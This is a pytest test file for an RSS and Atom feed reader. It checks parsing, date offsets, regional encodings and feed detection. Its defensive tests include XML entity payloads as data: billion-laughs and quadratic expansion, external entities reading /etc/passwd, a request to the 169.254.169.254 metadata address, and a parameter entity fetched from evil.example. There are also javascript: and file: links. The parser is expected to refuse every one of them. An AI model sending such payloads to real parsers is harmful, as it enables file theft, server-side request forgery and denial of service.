"""RSS and Atom as sites write them, and as attackers do."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.feeds import MOST_BYTES, FeedEntry, looks_like_feed, read_feed
from rag.errors import ReadError

URL = "https://news.example/feeds/world.xml"

RSS = """<?xml version="1.0" encoding="utf-8"?>
<!-- made by hand -->
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0"><channel>
<title>World &amp; more</title><link>https://news.example/</link>
<item><title>Iran &lt;b&gt;and&lt;/b&gt; Israel</title><link>/2024/04/a.html#top</link>
 <pubDate>Sat, 13 Apr 2024 23:30:00 -0400</pubDate><dc:creator>A. Writer</dc:creator>
 <description>Short.</description>
 <content:encoded><![CDATA[<p>Long &eacute;</p><p>text</p>]]></content:encoded></item>
<item><title>Two</title><link>https://count.example/x</link>
 <feedburner:origLink>https://news.example/two</feedburner:origLink>
 <dc:date>2024-04-14</dc:date></item>
<item><title>No link</title></item>
<item><title>Script</title><link>javascript:alert(1)</link></item>
<item><title>File</title><link>file:///etc/passwd</link></item>
<item><guid isPermaLink="true">https://news.example/three</guid></item>
<item><title>Again</title><link>https://news.example/2024/04/a.html</link></item>
</channel></rss>"""

ATOM = """<?xml version='1.0'?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://atom.example/base/">
<title type="html">Atom &amp;amp; co</title>
<entry><title>One</title><link rel="self" href="self"/><link rel="alternate" href="one.html"/>
 <updated>2024-10-03T08:00:00Z</updated><published>2024-10-02T01:02:03+03:30</published>
 <author><name>B. Writer</name></author><summary>About one</summary></entry>
<entry><title>Two</title><link href="two.html"/><updated>2024-10-03T08:00:00Z</updated></entry>
<entry><title>Three</title><link href="three.html"/></entry>
</feed>"""


def test_reads_rss():
    feed = read_feed(RSS.encode(), url=URL)
    assert feed.title == "World & more"
    assert feed.unlinked == 3
    assert feed.entries == (
        FeedEntry(
            "https://news.example/2024/04/a.html",
            "Iran and Israel",
            "2024-04-13T23:30:00-04:00",
            "A. Writer",
            "Long é text",
            "World & more",
        ),
        FeedEntry("https://news.example/two", "Two", "2024-04-14", outlet="World & more"),
        FeedEntry("https://news.example/three", outlet="World & more"),
    )


def test_reads_atom():
    feed = read_feed(ATOM.encode(), url=URL)
    assert feed.title == "Atom & co"
    assert [entry.url for entry in feed.entries] == [
        "https://atom.example/base/one.html",
        "https://atom.example/base/two.html",
        "https://atom.example/base/three.html",
    ]
    assert [entry.published for entry in feed.entries] == [
        "2024-10-02T01:02:03+03:30",
        "2024-10-03T08:00:00+00:00",
        None,
    ]
    assert feed.entries[0].author == "B. Writer"
    assert feed.entries[0].summary == "About one"


def item(inside: str) -> bytes:
    link = "<link>https://news.example/a</link>"
    return f"<rss version='2.0'><channel><item>{link}{inside}</item></channel></rss>".encode()


@pytest.mark.parametrize(
    ("written", "published"),
    [
        ("Tue, 01 Oct 2024 19:31:00 GMT", "2024-10-01T19:31:00+00:00"),
        ("01 Oct 2024 19:31 EST", "2024-10-01T19:31:00-05:00"),
        ("Tue, 01 Oct 2024", "2024-10-01"),
        ("2024-10-01", "2024-10-01"),
        ("2024-10-01T19:31:00+02:00", "2024-10-01T19:31:00+02:00"),
        ("2024-10", "2024-10-01"),
        ("2024-13-45", None),
        ("yesterday", None),
        ("", None),
    ],
)
def test_dates_keep_their_own_offset(written, published):
    (entry,) = read_feed(item(f"<pubDate>{written}</pubDate>"), url=URL).entries
    assert entry.published == published


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "windows-1256"])
def test_reads_the_encodings_of_the_region(encoding):
    text = (
        f"<?xml version='1.0' encoding='{encoding.removesuffix('-sig')}'?><rss version='2.0'>"
        "<channel><title>اخبار</title><item><link>https://news.example/a</link></item>"
        "</channel></rss>"
    )
    data = text.encode(encoding)
    assert looks_like_feed(data, None)
    assert read_feed(data, url=URL).title == "اخبار"


def test_a_feed_that_is_not_well_formed_is_read_all_the_same():
    data = item("<title>Fish & chips &nbsp; <br> done</title>").replace(b"</channel>", b"")
    assert len(read_feed(data, url=URL).entries) == 1


LAUGHS = "".join(
    f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" * 1}{("&l" + str(n - 1) + ";") * 9}">'
    for n in range(1, 10)
)
ATTACKS = {
    "billion laughs": f'<!DOCTYPE rss [<!ENTITY l0 "lol">{LAUGHS}]>',
    "external file": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "external page": '<!DOCTYPE rss [<!ENTITY x SYSTEM "http://169.254.169.254/">]>',
    "parameter entity": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]>',
    "quadratic": f'<!DOCTYPE rss [<!ENTITY l9 "{"x" * 50_000}">]>',
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_feeds_that_declare_entities_are_refused(attack, encoding):
    title = "<title>&l9;&x;</title>"
    text = f"<?xml version='1.0'?>{ATTACKS[attack]}{item(title).decode()}"
    data = text.encode(encoding)
    assert looks_like_feed(data, None)
    with pytest.raises(ReadError, match="entities"):
        read_feed(data, url=URL)


def test_an_outer_document_type_is_not_fetched_and_does_no_harm():
    doctype = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://127.0.0.1:9/rss-0.91.dtd">'
    )
    data = b"<?xml version='1.0'?>" + doctype + item("<title>T</title>")
    assert looks_like_feed(data, "text/xml")
    assert read_feed(data, url=URL).entries[0].title == "T"


def test_a_path_as_data_is_not_opened(tmp_path):
    path = tmp_path / "feed.xml"
    path.write_text(RSS)
    for data in (str(path).encode(), b"http://127.0.0.1:9/feed.xml", b"", b"<rss", b"\xff\xfe\xff"):
        with pytest.raises(ReadError, match="not a readable"):
            read_feed(data, url=URL)


@pytest.mark.parametrize("part", [b"<item>", b"x" * MOST_BYTES])
def test_feeds_of_too_many_bytes_or_tags_are_refused(part):
    with pytest.raises(ReadError, match="more than 5 MiB or 100000 tags"):
        read_feed(b"<rss>" + part * (100_001 if part == b"<item>" else 1), url=URL)


@given(st.binary(max_size=300) | st.text("<>!&;[]?/=\"' rsfeditmlnk", max_size=200).map(str.encode))
def test_any_data_is_read_or_refused(data):
    looks_like_feed(data, "application/rss+xml")
    for whole in (data, item("").replace(b"</item>", data + b"</item>")):
        try:
            entries = read_feed(whole, url=URL).entries
        except ReadError:
            continue
        assert all(entry.url.startswith(("http://", "https://")) for entry in entries)


@pytest.mark.parametrize(
    ("data", "content_type", "is_feed"),
    [
        (RSS.encode(), "text/html", True),
        (ATOM.encode(), None, True),
        (b"\xef\xbb\xbf <rss version='2.0'>", None, True),
        (b"<a:feed xmlns:a='http://www.w3.org/2005/Atom'>", None, True),
        (b"<rdf:RDF xmlns='http://purl.org/rss/1.0/'>", None, True),
        (b"<rdf:RDF xmlns:foaf='http://xmlns.com/foaf/0.1/'>", "application/rdf+xml", False),
        (b"<!-- " + b"x" * 9000 + b"--><rss/>", "application/rss+xml", True),
        (b"<!doctype html><html><body><rss>", "application/rss+xml", False),
        (b"<html><pre>&lt;rss&gt;", "text/html", False),
        (b"<rssx/>", None, False),
        (b"An article about <rss> feeds", "text/plain", False),
        (b"", "text/html", False),
    ],
)
def test_what_looks_like_a_feed(data, content_type, is_feed):
    assert looks_like_feed(data, content_type) is is_feed
